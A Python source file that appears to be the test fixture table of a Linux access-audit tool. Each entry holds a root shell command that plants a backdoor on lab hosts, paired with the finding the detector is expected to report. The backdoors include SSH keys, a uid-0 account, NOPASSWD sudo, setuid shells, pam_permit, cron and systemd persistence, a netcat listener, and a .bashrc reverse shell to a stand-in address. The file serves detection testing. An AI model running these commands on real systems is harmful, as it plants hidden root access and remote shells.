# Copyright (c) 2026, infogerance.perimeter contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
# ruff: noqa: E501 - a table
"""Ways in, each with how it is made and how it must be told. docs/ways_in.md is made of this table."""

from __future__ import annotations

import base64
import hashlib
import struct
from dataclasses import dataclass


def key(name: str) -> str:
    """A well-formed public key that nobody has the other half of."""
    kind = b"ssh-ed25519"
    point = hashlib.sha256(name.encode()).digest()
    blob = struct.pack(">I", len(kind)) + kind + struct.pack(">I", len(point)) + point
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {name}"


ALICE_KEY, BOB_KEY, NOBODYS_KEY = key("alice@laptop"), key("bob@home"), key("unknown")
BOB_PEER = base64.b64encode(hashlib.sha256(b"peer").digest()).decode()
HASH = "$6$ways$6kLZoS7Hp6TqYV8gSg5T8Vn0OLvHbxyeS2OVLnB8rP6.5lJcZkl9hNAHcwqSWjT3.YZbVgkl/nk1bEQpWS2Ml0"

#: setcap(8), which plants and removes file capabilities.
PACKAGES = ("libcap2-bin",)

#: People on every host, before anything is planted.
PEOPLE = f"""
set -e
for name in alice bob carol; do useradd -m -s /bin/bash -p '*' "$name"; done
gpasswd -a alice adm
install -d -m 700 -o alice -g alice /home/alice/.ssh
echo '{ALICE_KEY}' | install -m 600 -o alice -g alice /dev/stdin /home/alice/.ssh/authorized_keys
"""

OF_THE_LAB = [
    {"kind": "sudo_rule", "path": "/etc/sudoers.d/deploy", "reason": "the lab's login becomes root"},
    {"kind": "systemd_unit", "path": "/etc/systemd/system/lab-prepare.service", "reason": "the lab's boot script"},
]


@dataclass(frozen=True)
class Way:
    """One way. ``plant`` makes it, as root; the finding must have this kind, path and account.

    ``entry`` must be a part of the finding's entry; a path of ``*`` fits every path. ``osquery``: the table in
    which a reader would see it; ``evocheck``: the check that told it when it was run.
    """

    name: str
    plant: str
    kind: str
    path: str
    account: str | None = None
    entry: str = ""
    person: str | None = None
    osquery: str = ""
    evocheck: str = ""

    @property
    def family(self) -> str:
        return next(name for name, rows in FAMILIES.items() if self in rows)


def put(line: str, path: str, owner: str = "root", mode: str = "644") -> str:
    """Append a line as somebody's file."""
    folder = path.rpartition("/")[0]
    own = f"install -d -o {owner} -g {owner} {folder}" if path.startswith("/home/") else f"mkdir -p {folder}"
    return f"{own}; printf '%s\\n' '{line}' >> {path}; chown {owner}:{owner} {path}; chmod {mode} {path}"


SSHD = "/etc/ssh/sshd_config.d/ways.conf"
SSH = (
    Way(
        "a second key of a declared account",
        put(NOBODYS_KEY, "/home/alice/.ssh/authorized_keys", "alice", "600"),
        "ssh_key", "/home/alice/.ssh/authorized_keys", "alice", "SHA256:", "alice.martin",
        osquery="authorized_keys",
    ),
    Way(
        "a leaver's key in root's account",
        put(BOB_KEY, "/root/.ssh/authorized_keys", mode="600"),
        "ssh_key", "/root/.ssh/authorized_keys", "root", "SHA256:", "bob.leroy", osquery="authorized_keys",
    ),
    Way(
        "a key in authorized_keys2",
        put(BOB_KEY, "/home/carol/.ssh/authorized_keys2", "carol", "600"),
        "ssh_key", "/home/carol/.ssh/authorized_keys2", "carol", "SHA256:", "bob.leroy", osquery="authorized_keys",
    ),
    Way(
        "a key of a system account",
        "usermod -s /bin/bash -d /var/lib/backup-pull backup; "
        + put(BOB_KEY, "/var/lib/backup-pull/.ssh/authorized_keys"),
        "ssh_key", "/var/lib/backup-pull/.ssh/authorized_keys", "backup", "SHA256:", "bob.leroy",
        osquery="authorized_keys",
    ),
    Way(
        "a certificate authority in a key file",
        put("cert-authority " + key("authority"), "/home/bob/.ssh/authorized_keys", "bob", "600"),
        "ssh_certificate_authority", "/home/bob/.ssh/authorized_keys", "bob", "SHA256:", "bob.leroy",
        osquery="authorized_keys",
    ),
    Way(
        "a linked key file",
        "install -d -o bob -g bob -m 700 /home/bob/.ssh; ln -s /home/bob/k /home/bob/.ssh/authorized_keys2;"
        " chown -h bob /home/bob/.ssh/authorized_keys2",
        "ssh_key_file_unread", "/home/bob/.ssh/authorized_keys2", "bob", "", "bob.leroy",
    ),
    Way(
        "a principal of a certificate",
        put("AuthorizedPrincipalsFile .ssh/principals", SSHD) + "; "
        + put("bob-laptop", "/home/carol/.ssh/principals", "carol", "600"),
        "ssh_principal", "/home/carol/.ssh/principals", "carol", "bob-laptop", "bob.leroy",
    ),
    Way("a trusted certificate authority", put("TrustedUserCAKeys /etc/ssh/ca.pub", SSHD), "ssh_trusted_ca", SSHD),
    Way(
        "a program that tells keys",
        put("AuthorizedKeysCommand /usr/bin/true", SSHD) + "; " + put("AuthorizedKeysCommandUser nobody", SSHD),
        "ssh_keys_command", SSHD,
    ),
    Way(
        "a program that tells principals",
        put("AuthorizedPrincipalsCommand /usr/bin/true", SSHD)
        + "; " + put("AuthorizedPrincipalsCommandUser nobody", SSHD),
        "ssh_principals_command", SSHD,
    ),
    Way("trust in other hosts' word", put("HostbasedAuthentication yes", SSHD), "ssh_host_based", SSHD),
    Way("a Kerberos realm", put("GSSAPIAuthentication yes", SSHD), "ssh_gssapi", SSHD),
    Way("empty passwords allowed", put("PermitEmptyPasswords yes", SSHD), "ssh_empty_passwords", SSHD),
    Way("lax key files", put("StrictModes no", SSHD), "ssh_lax_modes", SSHD),
    Way("a subsystem that is a shell", put("Subsystem shell /bin/sh", SSHD), "ssh_subsystem", SSHD, entry="shell"),
    Way("the user's environment", put("PermitUserEnvironment yes", SSHD), "ssh_user_environment", SSHD),
    Way(
        "a certificate authority inside a Match block",
        put("Match Address 198.51.100.0/24", "/etc/ssh/sshd_config.d/zz-match.conf") + "; "
        + put("TrustedUserCAKeys /etc/ssh/other.pub", "/etc/ssh/sshd_config.d/zz-match.conf"),
        "ssh_trusted_ca", "/etc/ssh/sshd_config.d/zz-match.conf",
    ),
    Way(
        "a second SSH server",
        "printf 'Port 2222\\nHostKey /etc/ssh/ssh_host_ed25519_key\\nPidFile none\\n' > /root/.other_sshd;"
        " /usr/sbin/sshd -f /root/.other_sshd",
        "ssh_second_server", "/usr/sbin/sshd", None, "/root/.other_sshd", osquery="processes, listening_ports",
    ),
    Way(
        "an SSH server of a user's own",
        "install -d -o carol -g carol -m 700 /home/carol/own;"
        " runuser -u carol -- ssh-keygen -q -t ed25519 -N '' -f /home/carol/own/key;"
        " printf 'Port 2223\\nHostKey /home/carol/own/key\\nPidFile none\\n'"
        " | install -o carol -g carol /dev/stdin /home/carol/own/conf;"
        " runuser -u carol -- /usr/sbin/sshd -f /home/carol/own/conf",
        "ssh_second_server", "/usr/sbin/sshd", "carol", "/home/carol/own/conf", osquery="processes, listening_ports",
    ),
    Way(
        "hosts.equiv", put("198.51.100.9 bob", "/etc/hosts.equiv"), "hosts_equiv", "/etc/hosts.equiv",
        person="bob.leroy",
    ),
    Way("shosts.equiv", put("+", "/etc/ssh/shosts.equiv"), "hosts_equiv", "/etc/ssh/shosts.equiv"),
    Way(
        ".shosts", put("198.51.100.9 bob", "/home/bob/.shosts", "bob"), "rhosts", "/home/bob/.shosts", "bob", "",
        "bob.leroy",
    ),
    Way(".rhosts of root", put("+ +", "/root/.rhosts"), "rhosts", "/root/.rhosts", "root"),
    Way(".k5login", put("bob@EXAMPLE.ORG", "/root/.k5login"), "k5login", "/root/.k5login", "root"),
    Way("~/.ssh/rc", put("id", "/home/bob/.ssh/rc", "bob"), "ssh_rc", "/home/bob/.ssh/rc", "bob", "", "bob.leroy"),
    Way("sshrc for everybody", put("id", "/etc/ssh/sshrc"), "ssh_rc", "/etc/ssh/sshrc"),
    Way(
        "~/.ssh/environment",
        put("PermitUserEnvironment yes", SSHD) + "; "
        + put("LD_PRELOAD=/tmp/x.so", "/home/bob/.ssh/environment", "bob"),
        "ssh_environment", "/home/bob/.ssh/environment", "bob", "", "bob.leroy",
    ),
    Way(
        "a key in /etc/skel", put(BOB_KEY, "/etc/skel/.ssh/authorized_keys"),
        "ssh_key_in_skel", "/etc/skel/.ssh/authorized_keys", person="bob.leroy",
    ),
    Way(
        "a key in cloud-init",
        put("ssh_authorized_keys:", "/etc/cloud/cloud.cfg.d/90-keys.cfg") + "; "
        + put("  - " + BOB_KEY, "/etc/cloud/cloud.cfg.d/90-keys.cfg"),
        "ssh_key_in_cloud_init", "/etc/cloud/cloud.cfg.d/90-keys.cfg", person="bob.leroy",
    ),
    Way(
        "a key for dropbear at boot", put(BOB_KEY, "/etc/dropbear/initramfs/authorized_keys"),
        "ssh_key_of_other_server", "/etc/dropbear/initramfs/authorized_keys", person="bob.leroy",
    ),
)  # fmt: skip

ACCOUNTS = (
    Way(
        "a second root",
        "printf 'toor:x:0:0::/root:/bin/bash\\n' >> /etc/passwd; printf 'toor:*:::::::\\n' >> /etc/shadow",
        "uid0_account", "/etc/passwd", "toor", osquery="users",
    ),
    Way(
        "a shared uid",
        "printf 'bob2:x:%s:%s::/home/bob2:/bin/bash\\n' $(id -u bob) $(id -g bob) >> /etc/passwd;"
        " printf 'bob2:*:::::::\\n' >> /etc/shadow",
        "shared_uid", "/etc/passwd", "bob2", osquery="users",
    ),
    Way(
        "a reused uid",
        "useradd -M -u 2345 fresh; install -d -m 700 /var/lib/infogerance-perimeter;"
        " printf '%s' '{\"version\": 1, \"accounts\": {}, \"disabled\": {}, \"tombstones\": [{\"name\": \"gone\","
        " \"uid\": 2345, \"at\": \"2026-11-01T00:00:00Z\", \"archive\": \"\"}]}'"
        " > /var/lib/infogerance-perimeter/ssh_accounts.json",
        "reused_uid", "/etc/passwd", "fresh", "2345",
    ),
    Way("an empty password", "usermod -p '' carol", "empty_password", "/etc/shadow", "carol", osquery="shadow"),
    Way(
        "a password that sshd takes", f"usermod -p '{HASH}' bob", "password_login", "/etc/shadow", "bob", "",
        "bob.leroy", osquery="shadow",
    ),
    Way(
        "a system account with a password", f"usermod -s /bin/sh -p '{HASH}' games", "system_account_password",
        "/etc/shadow", "games", osquery="shadow, users",
    ),
    Way(
        "a password in passwd",
        f"useradd -M open1; sed -i 's#^open1:x:#open1:{HASH}:#' /etc/passwd",
        "password_in_passwd", "/etc/passwd", "open1",
    ),
    Way("a group's password", f"groupadd ops; sed -i 's#^ops:!#ops:{HASH}#' /etc/gshadow", "group_password",
        "/etc/gshadow", None, "ops"),
    Way("an administrator of a group", "gpasswd -A bob adm", "group_administrator", "/etc/gshadow", "bob", "adm",
        "bob.leroy"),
    Way("accounts of NIS", "printf '+::::::\\n' >> /etc/passwd", "nis_accounts", "/etc/passwd", None, "+"),
    Way("subordinate uids that are real ones", "printf 'bob:0:65536\\n' >> /etc/subuid", "subordinate_uids",
        "/etc/subuid", "bob", "bob:0", "bob.leroy"),
    Way("shadow that everybody reads", "chmod 644 /etc/shadow", "account_file_mode", "/etc/shadow",
        osquery="file"),
    Way("a home that is another's", "useradd -m -s /bin/bash -p '*' eve; chown bob /home/eve", "foreign_home",
        "/home/eve", "eve"),
    Way("a home that everybody writes", "useradd -m -s /bin/bash -p '*' frank; chmod 777 /home/frank", "writable_home",
        "/home/frank", "frank"),
    Way("a directory service", "sed -i 's/^passwd:.*/passwd: files systemd sss/' /etc/nsswitch.conf",
        "directory_accounts", "/etc/nsswitch.conf", None, "sss"),
)  # fmt: skip

PRIVILEGE = (
    Way("a sudo rule", "echo 'bob ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/zz-bob", "sudo_rule", "/etc/sudoers.d/zz-bob",
        "bob", "NOPASSWD", "bob.leroy", osquery="sudoers"),
    Way("a sudo rule in the main file", "echo 'carol ALL=(root) /usr/bin/less' >> /etc/sudoers", "sudo_rule", "/etc/sudoers",
        "carol", "less", osquery="sudoers"),
    Way("a sudo rule for everybody", "echo 'ALL ALL=(ALL) ALL' > /etc/sudoers.d/all", "sudo_rule", "/etc/sudoers.d/all",
        None, "ALL", osquery="sudoers"),
    Way("a member of sudo", "gpasswd -a bob sudo", "sudo_rule", "/etc/sudoers", "bob", "%sudo", "bob.leroy",
        osquery="user_groups"),
    Way("sudo without authentication", "echo 'Defaults !authenticate' > /etc/sudoers.d/easy", "sudo_default",
        "/etc/sudoers.d/easy"),
    Way("sudo of a program that a user may change",
        "install -m 777 /bin/true /usr/local/bin/weak; echo '%adm ALL=(root) /usr/local/bin/weak' > /etc/sudoers.d/weak",
        "sudo_weak_program", "/usr/local/bin/weak"),
    Way("doas", put("permit nopass bob as root", "/etc/doas.conf"), "doas_rule", "/etc/doas.conf", "bob", "nopass",
        "bob.leroy"),
    Way("a polkit rule",
        put("polkit.addRule(function(a, s) { return polkit.Result.YES; });", "/etc/polkit-1/rules.d/00-all.rules"),
        "polkit_rule", "/etc/polkit-1/rules.d/00-all.rules"),
    Way("an old polkit authority",
        "mkdir -p /etc/polkit-1/localauthority/50-local.d;"
        " printf '[x]\\nIdentity=unix-user:bob\\nAction=*\\nResultAny=yes\\n'"
        " > /etc/polkit-1/localauthority/50-local.d/x.pkla",
        "polkit_rule", "/etc/polkit-1/localauthority/50-local.d/x.pkla"),
    Way("a member of docker", "groupadd -f docker; gpasswd -a bob docker", "strong_group", "/etc/group", "bob", "docker",
        "bob.leroy", osquery="user_groups"),
    Way("a member of disk", "usermod -aG disk carol", "strong_group", "/etc/group", "carol", "disk", osquery="user_groups"),
    Way("shadow as its own group", "useradd -M -g shadow -s /bin/bash grace", "strong_group", "/etc/group", "grace", "shadow",
        osquery="users"),
    Way("an open socket of docker",
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"/run/docker.sock\")'; chmod 666 /run/docker.sock",
        "open_socket", "/run/docker.sock", osquery="file"),
    Way("a setuid shell in a home", "install -m 4755 /bin/sh /home/bob/.hidden", "setuid_file", "/home/bob/.hidden", "bob",
        "", "bob.leroy", osquery="file"),
    Way("a setuid shell in /var/tmp", "mkdir -p /var/tmp/a/b; install -m 4755 /bin/sh /var/tmp/a/b/x", "setuid_file",
        "/var/tmp/a/b/x", osquery="file"),
    Way("a setgid program in a home", "install -m 2755 -g shadow /bin/cat /home/bob/cat", "setgid_file", "/home/bob/cat",
        "bob", "", "bob.leroy", osquery="file"),
    Way("setuid on a program of the system", "chmod u+s /usr/bin/find", "setuid_file", "/usr/bin/find", osquery="suid_bin"),
    Way("a file capability", "cp /bin/cat /home/bob/caps; setcap cap_dac_read_search+ep /home/bob/caps", "file_capability",
        "/home/bob/caps", "bob", "", "bob.leroy"),
    Way("PAM that lets everybody pass", "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd", "pam_passes",
        "/etc/pam.d/sshd", None, "pam_permit"),
    Way("PAM that asks sshd itself", "sed -i '1i auth sufficient pam_rootok.so' /etc/pam.d/common-auth", "pam_passes",
        "/etc/pam.d/common-auth", None, "pam_rootok"),
    Way("PAM that steps over the refusal", "sed -i '1i auth [success=2 default=ignore] pam_permit.so' /etc/pam.d/common-auth",
        "pam_passes", "/etc/pam.d/common-auth", None, "success=2"),
    Way("PAM that forgets that accounts expire", "sed -i '1i account sufficient pam_permit.so' /etc/pam.d/common-account",
        "pam_passes", "/etc/pam.d/common-account", None, "pam_permit"),
    Way("a PAM service that judges nobody", put("auth required pam_permit.so", "/etc/pam.d/vpn"), "pam_passes",
        "/etc/pam.d/vpn", None, "pam_permit"),
    Way("a PAM module from elsewhere",
        "cp $(ls /usr/lib/*/security/pam_permit.so /lib/*/security/pam_permit.so 2>/dev/null | head -1)"
        " $(dirname $(readlink -f $(ls -d /usr/lib/*/security | head -1))/x)/pam_extra.so",
        "pam_module", "/usr/lib/x86_64-linux-gnu/security/pam_extra.so"),
)  # fmt: skip

UNIT = "[Service]\\nExecStart=/bin/sleep 1d\\n"
PERSISTENCE = (
    Way("a crontab of a leaver", "echo '0 4 * * * true' | crontab -u bob -", "crontab", "/var/spool/cron/crontabs/bob", "bob",
        "", "bob.leroy", osquery="crontab"),
    Way("a crontab of nobody's", "echo '0 4 * * * true' > /var/spool/cron/crontabs/gone", "crontab",
        "/var/spool/cron/crontabs/gone", "gone", osquery="crontab"),
    Way("an at job", "install -m 700 -o bob -g daemon /dev/null /var/spool/cron/atjobs/a00001019f2d4c", "at_job",
        "/var/spool/cron/atjobs/a00001019f2d4c", "bob", "", "bob.leroy"),
    Way("a line in /etc/crontab", "echo '1 1 * * * root /root/x' >> /etc/crontab", "system_cron", "/etc/crontab", "root",
        "line", osquery="crontab"),
    Way("a file in cron.d", put("* * * * * root /root/x", "/etc/cron.d/sync"), "system_cron", "/etc/cron.d/sync",
        osquery="crontab"),
    Way("a script in cron.daily", put("true", "/etc/cron.daily/sync", mode="755"), "system_cron", "/etc/cron.daily/sync"),
    Way("a package's cron script, changed", "echo true >> /etc/cron.daily/dpkg", "system_cron", "/etc/cron.daily/dpkg"),
    Way("a systemd unit", f"printf '{UNIT}' > /etc/systemd/system/sync.service", "systemd_unit",
        "/etc/systemd/system/sync.service", osquery="systemd_units"),
    Way("a unit of the system, changed", "echo 'ExecStartPost=/root/x' >> /usr/lib/systemd/system/cron.service",
        "systemd_unit", "/usr/lib/systemd/system/cron.service", osquery="systemd_units"),
    Way("a linked unit", f"printf '{UNIT}' > /home/bob/x.service; ln -s /home/bob/x.service /etc/systemd/system/y.service",
        "systemd_unit", "/etc/systemd/system/y.service", osquery="systemd_units"),
    Way("a timer", "printf '[Timer]\\nOnCalendar=daily\\n' > /etc/systemd/system/sync.timer", "systemd_timer",
        "/etc/systemd/system/sync.timer", osquery="systemd_units"),
    Way("a socket", "printf '[Socket]\\nListenStream=4444\\n' > /etc/systemd/system/sync.socket", "systemd_socket",
        "/etc/systemd/system/sync.socket", osquery="systemd_units"),
    Way("a drop-in",
        "mkdir -p /etc/systemd/system/cron.service.d; printf '[Service]\\nExecStartPre=/root/x\\n'"
        " > /etc/systemd/system/cron.service.d/x.conf", "systemd_drop_in", "/etc/systemd/system/cron.service.d/x.conf"),
    Way("a generator", put("true", "/etc/systemd/system-generators/x", mode="755"), "systemd_generator",
        "/etc/systemd/system-generators/x"),
    Way("a user's own unit",
        "install -d -o bob -g bob /home/bob/.config /home/bob/.config/systemd /home/bob/.config/systemd/user;"
        f" printf '{UNIT}' | install -o bob -g bob /dev/stdin /home/bob/.config/systemd/user/x.service",
        "user_unit", "/home/bob/.config/systemd/user/x.service", "bob", "", "bob.leroy",
        evocheck="IS_SYSTEMDUSERUNIT"),
    Way("linger", "mkdir -p /var/lib/systemd/linger; touch /var/lib/systemd/linger/bob", "linger",
        "/var/lib/systemd/linger/bob", "bob", "", "bob.leroy"),
    Way("rc.local", put("/root/x", "/etc/rc.local", mode="755"), "rc_local", "/etc/rc.local", osquery="startup_items"),
    Way("an init script", put("true", "/etc/init.d/sync", mode="755"), "init_script", "/etc/init.d/sync",
        osquery="startup_items"),
    Way("a udev rule", put('ACTION=="add", RUN+="/root/x"', "/etc/udev/rules.d/99-x.rules"), "udev_rule",
        "/etc/udev/rules.d/99-x.rules"),
    Way("root's start-up file", "echo 'nohup bash -i >/dev/tcp/192.0.2.9/1 &' >> /root/.bashrc", "shell_startup",
        "/root/.bashrc", "root", "line"),
    Way("a start-up file for everybody", put("alias sudo=/tmp/x", "/etc/profile.d/x.sh"), "shell_startup",
        "/etc/profile.d/x.sh", None, "line"),
    Way("a start-up file that everybody writes", "chmod 666 /home/bob/.bashrc", "startup_writable", "/home/bob/.bashrc",
        "bob", "", "bob.leroy"),
    Way("a hook of the message of the day", put("true", "/etc/update-motd.d/99-x", mode="755"), "hook_script",
        "/etc/update-motd.d/99-x"),
    Way("a preloaded library", put("/usr/lib/missing.so", "/etc/ld.so.preload"), "preload", "/etc/ld.so.preload"),
    Way("a hook of apt", put('DPkg::Post-Invoke {"true";};', "/etc/apt/apt.conf.d/99x"), "apt_hook",
        "/etc/apt/apt.conf.d/99x"),
    Way("a process of a leaver", "setsid runuser -u bob -- sleep 1000 >/dev/null 2>&1 & sleep 0.2", "process", "*", "bob",
        "sleep", "bob.leroy", osquery="processes"),
    Way("a process without an account", "setsid setpriv --reuid 4321 --clear-groups sleep 1000 >/dev/null 2>&1 & sleep 0.2",
        "orphan_process", "*", "uid 4321", "sleep", osquery="processes"),
)  # fmt: skip

NETWORK = (
    Way("a firewall rule",
        "nft add table inet old; nft add chain inet old input '{ type filter hook input priority 0; }';"
        " nft add rule inet old input ip saddr 198.51.100.9 accept",
        "firewall_rule", "nft inet old input", None, "198.51.100.9", "bob.leroy", osquery="iptables (not nft)"),
    Way("a set of a firewall",
        "nft add table inet older; nft add set inet older ports '{ type inet_service; elements = { 22, 443 }; }';"
        " nft add set inet older friends '{ type ipv4_addr; elements = { 203.0.113.5 }; }';"
        " nft add chain inet older input '{ type filter hook input priority 0; }';"
        " nft add rule inet older input ip saddr @friends accept",
        "firewall_rule", "nft inet older input", None, "203.0.113.5"),
    Way("a tcp wrapper that runs a program", put("ALL: ALL: spawn /root/x", "/etc/hosts.allow"), "tcp_wrapper",
        "/etc/hosts.allow", None, "spawn"),
    Way("an address of the tcp wrappers", put("sshd: 198.51.100.77", "/etc/hosts.allow"), "tcp_wrapper", "/etc/hosts.allow",
        None, "198.51.100.77", "bob.leroy"),
    Way("an address of the tcp wrappers for all", put("ALL: 198.51.100.78", "/etc/hosts.allow"), "tcp_wrapper",
        "/etc/hosts.allow", None, "198.51.100.78", "bob.leroy"),
    Way("a chain of a firewall for one address",
        "nft add table inet chained; nft add chain inet chained friends; nft add rule inet chained friends accept;"
        " nft add chain inet chained input '{ type filter hook input priority 0; }';"
        " nft add rule inet chained input ip saddr 198.51.100.11 jump friends",
        "firewall_rule", "nft inet chained input", None, "198.51.100.11", "bob.leroy"),
    Way("a map of a firewall",
        "nft add table inet mapped; nft add chain inet mapped input '{ type filter hook input priority 0; }';"
        " nft add rule inet mapped input ip saddr vmap '{ 198.51.100.12 : accept, 203.0.113.6 : drop }'",
        "firewall_rule", "nft inet mapped input", None, "198.51.100.12", "bob.leroy"),
    Way("an OpenVPN static key", put("secret static.key", "/etc/openvpn/p2p.conf"), "openvpn_static_key",
        "/etc/openvpn/p2p.conf"),
    Way("OpenVPN without certificates",
        put("server 10.9.0.0 255.255.255.0", "/etc/openvpn/pw.conf") + "; "
        + put("verify-client-cert none", "/etc/openvpn/pw.conf"),
        "openvpn_no_certificate", "/etc/openvpn/pw.conf"),
    Way("OpenVPN's management port",
        put("mode server", "/etc/openvpn/mgmt.conf") + "; " + put("management 0.0.0.0 7505", "/etc/openvpn/mgmt.conf"),
        "openvpn_management", "/etc/openvpn/mgmt.conf"),
    Way("a leaver's client file of OpenVPN",
        put("mode server", "/etc/openvpn/ccd.conf") + "; " + put("client-config-dir /etc/openvpn/ccd", "/etc/openvpn/ccd.conf")
        + "; " + put("ifconfig-push 10.9.0.7 10.9.0.8", "/etc/openvpn/ccd/bob-laptop"),
        "openvpn_client", "/etc/openvpn/ccd/bob-laptop", None, "bob-laptop", "bob.leroy"),
    Way("a leaver's WireGuard peer",
        f"mkdir -p /etc/wireguard; printf '[Interface]\\nPrivateKey = x\\n\\n[Peer]\\nPublicKey = {BOB_PEER}\\n"
        "AllowedIPs = 10.8.0.7/32\\n' > /etc/wireguard/wg0.conf",
        "wireguard_peer", "/etc/wireguard/wg0.conf", None, BOB_PEER, "bob.leroy"),
    Way("a listening shell", "tail -f /dev/null | setsid nc -l -p 4445 >/dev/null 2>&1 & sleep 0.3", "listening_shell",
        "/usr/bin/nc.openbsd", "root", "4445", osquery="listening_ports"),
    Way("a shell that called out",
        "setsid python3 -c 'import os, socket, subprocess; s = socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen();"
        " c = socket.create_connection(s.getsockname()); a = s.accept()[0];"
        " subprocess.run([\"bash\"], stdin=c, stdout=c)' >/dev/null 2>&1 & sleep 0.7",
        "reverse_shell", "/usr/bin/bash", "root", "127.0.0.1", osquery="process_open_sockets"),
    Way("a tunnel program", "install /bin/sleep /usr/local/bin/tmate; setsid /usr/local/bin/tmate 1000 >/dev/null 2>&1 & sleep 0.2",
        "relayed_access", "/usr/local/bin/tmate", "root", "tmate", osquery="processes"),
    Way("a shell on pipes behind a connection",
        "python3 -c 'import socket, subprocess, time; s = socket.socket(); s.bind((\"127.0.0.1\", 4446)); s.listen();"
        " p = subprocess.Popen([\"nc\", \"127.0.0.1\", \"4446\"], stdin=subprocess.PIPE, stdout=subprocess.PIPE);"
        " a = s.accept()[0]; p.wait()' >/dev/null 2>&1 & sleep 0.7",
        "reverse_shell", "/usr/bin/nc.openbsd", "root", "127.0.0.1", osquery="process_open_sockets"),
    Way("inetd", put("ingreslock stream tcp nowait root /bin/sh sh -i", "/etc/inetd.conf"), "inetd_service",
        "/etc/inetd.conf", "root", "ingreslock"),
    Way("docker on the network",
        "mkdir -p /etc/docker; printf '{\n  \"hosts\": [\"tcp://0.0.0.0:2375\", \"unix:///run/docker.sock\"]\n}\n'"
        " > /etc/docker/daemon.json", "docker_port", "/etc/docker/daemon.json"),
)  # fmt: skip

HBA = "/etc/postgresql/15/main/pg_hba.conf"
SERVICES = (
    Way("PostgreSQL from outside", put("host all bob 198.51.100.0/24 scram-sha-256", HBA), "postgres_hba", HBA, None, "bob"),
    Way("PostgreSQL without a password", put("local all all trust", HBA), "postgres_hba", HBA, None, "local"),
    Way("a user of a web area", put("bob:$apr1$x$y", "/etc/nginx/.htpasswd"), "htpasswd_user", "/etc/nginx/.htpasswd", "bob",
        "", "bob.leroy"),
    Way("a user of a web area elsewhere",
        put("auth_basic_user_file /srv/users;", "/etc/nginx/conf.d/x.conf") + "; " + put("alice:$apr1$x$y", "/srv/users"),
        "htpasswd_user", "/srv/users", "alice", "", "alice.martin"),
    Way("a user of FTP", put("bob:$1$x:1:1::/:/bin/false", "/etc/proftpd/ftpd.passwd"), "service_user",
        "/etc/proftpd/ftpd.passwd", "bob", "", "bob.leroy"),
    Way("FTP for everybody", put("anonymous_enable=YES", "/etc/vsftpd.conf"), "ftp_anonymous", "/etc/vsftpd.conf"),
    Way("FTP for accounts", put("local_enable=YES", "/etc/vsftpd.conf"), "ftp_accounts", "/etc/vsftpd.conf"),
    Way("a user of Samba", put("bob:1000:00:00:[U]:LCT-1:", "/etc/samba/smbpasswd"), "service_user",
        "/etc/samba/smbpasswd", "bob", "", "bob.leroy"),
    Way("a share for guests", "mkdir -p /etc/samba; printf '[open]\\npath = /srv\\nguest ok = yes\\n' > /etc/samba/smb.conf",
        "samba_guest", "/etc/samba/smb.conf", None, "open"),
    Way("root over NFS", put("/srv 192.0.2.0/24(rw,no_root_squash)", "/etc/exports"), "nfs_root", "/etc/exports"),
    Way("an open rsync module", "printf '[all]\\npath = /\\n' > /etc/rsyncd.conf", "rsync_module", "/etc/rsyncd.conf", None,
        "all"),
    Way("Redis without a password", put("bind 0.0.0.0", "/etc/redis/redis.conf") + "; "
        + put("protected-mode no", "/etc/redis/redis.conf"), "redis_open", "/etc/redis/redis.conf"),
    Way("Redis whose user needs no password",
        put("bind 0.0.0.0", "/etc/valkey/valkey.conf") + "; " + put("protected-mode no", "/etc/valkey/valkey.conf") + "; "
        + put("user default on nopass ~* +@all", "/etc/valkey/valkey.conf"), "redis_open", "/etc/valkey/valkey.conf"),
    Way("memcached on the network", put("-l 0.0.0.0", "/etc/memcached.conf"), "memcached_open", "/etc/memcached.conf"),
    Way("SNMP that writes", put("rwcommunity private", "/etc/snmp/snmpd.conf"), "snmp_write", "/etc/snmp/snmpd.conf"),
)  # fmt: skip

FAMILIES: dict[str, tuple[Way, ...]] = {
    "ssh": SSH,
    "accounts": ACCOUNTS,
    "privilege": PRIVILEGE,
    "persistence": PERSISTENCE,
    "network": NETWORK,
    "services": SERVICES,
}
WAYS = [way for rows in FAMILIES.values() for way in rows]
